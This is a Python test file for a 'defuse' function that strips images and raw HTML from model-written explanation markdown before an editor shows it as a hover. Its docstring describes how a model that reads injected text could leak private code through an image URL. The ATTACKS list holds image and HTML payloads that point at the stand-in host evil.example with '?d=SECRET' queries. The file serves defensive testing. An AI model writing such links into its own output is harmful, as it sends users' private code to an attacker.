"""Explanation markdown is shown by editors that load an image's URL as soon as they show a
hover (VS Code does): a model that read private code, or was told to by text in it, could
put that code into such a URL. ``defuse`` leaves no image and no raw HTML for a CommonMark
renderer to act on, and leaves code as it was."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from localroute.tasks.explain import defuse, explanation_markdown
from tests.support.markdown import active_parts, code_of

ATTACKS = [
    "See ![status](https://evil.example/p.png?d=SECRET) for details.",
    "![a][ref]\n\n[ref]: https://evil.example/p.png",
    '<img src="https://evil.example/p.png?d=SECRET">',
    "<div>\n![x](https://evil.example/p.png)\n</div>",
    "<https://evil.example/?d=SECRET> and <!-- a comment -->",
    "\\`![x](https://evil.example/p.png)\\`",
    "\\<img src=x>",
    "see `code\nmore` ![x](https://evil.example/p.png) `tail`",
    "# heading `x\n![img](https://evil.example/p.png) `y` z",
    "``` ![x](https://evil.example/a.png) `\n![y](https://evil.example/b.png)",
    "```\ncode\n```~\n![y](https://evil.example/b.png)\n```",
    "> ```\n> ![q](https://evil.example/q.png)\n> ```",
    "- item\n  ```\n  ![l](https://evil.example/l.png)\n  ```",
    "\\``code`\n![i](https://evil.example/i.png) `x`",
]


@pytest.mark.parametrize("answer", ATTACKS)
def test_no_image_or_html_is_left_for_a_renderer(answer: str) -> None:
    assert active_parts(defuse(answer)) == []


@settings(max_examples=600, deadline=None)
@given(st.text(alphabet="![]()<>`\\~ \n#-*>ab:/", max_size=60))
def test_nothing_a_model_writes_leaves_an_image_or_html(answer: str) -> None:
    assert active_parts(defuse(answer)) == [], defuse(answer)


def test_code_blocks_and_code_spans_are_left_as_they_are() -> None:
    answer = (
        "It builds a vector with `vec![1, 2]` and a `Vec<String>`:\n"
        '```rust\nlet v: Vec<String> = vec![];\nlet s = "<b>";\n```\n'
        '~~~html\n<img src="a.png">\n~~~'
    )
    shown = defuse(answer)
    assert (
        code_of(shown)
        == code_of(answer)
        == [
            "vec![1, 2]",
            "Vec<String>",
            'let v: Vec<String> = vec![];\nlet s = "<b>";\n',
            '<img src="a.png">\n',
        ]
    )
    assert active_parts(shown) == []


def test_ordinary_markdown_is_unchanged() -> None:
    answer = "## What it does\n\n- divides `a` by `b`\n- a < b is fine\n\n[docs](https://x.test)"
    assert defuse(answer) == answer


def test_the_hover_is_defused() -> None:
    hover = explanation_markdown(
        "It logs in. ![](https://evil.example/p.png?d=SECRET)",
        model="coder",
        backend="local",
        locality="local",
    )
    assert active_parts(hover) == []
    assert "It logs in." in hover
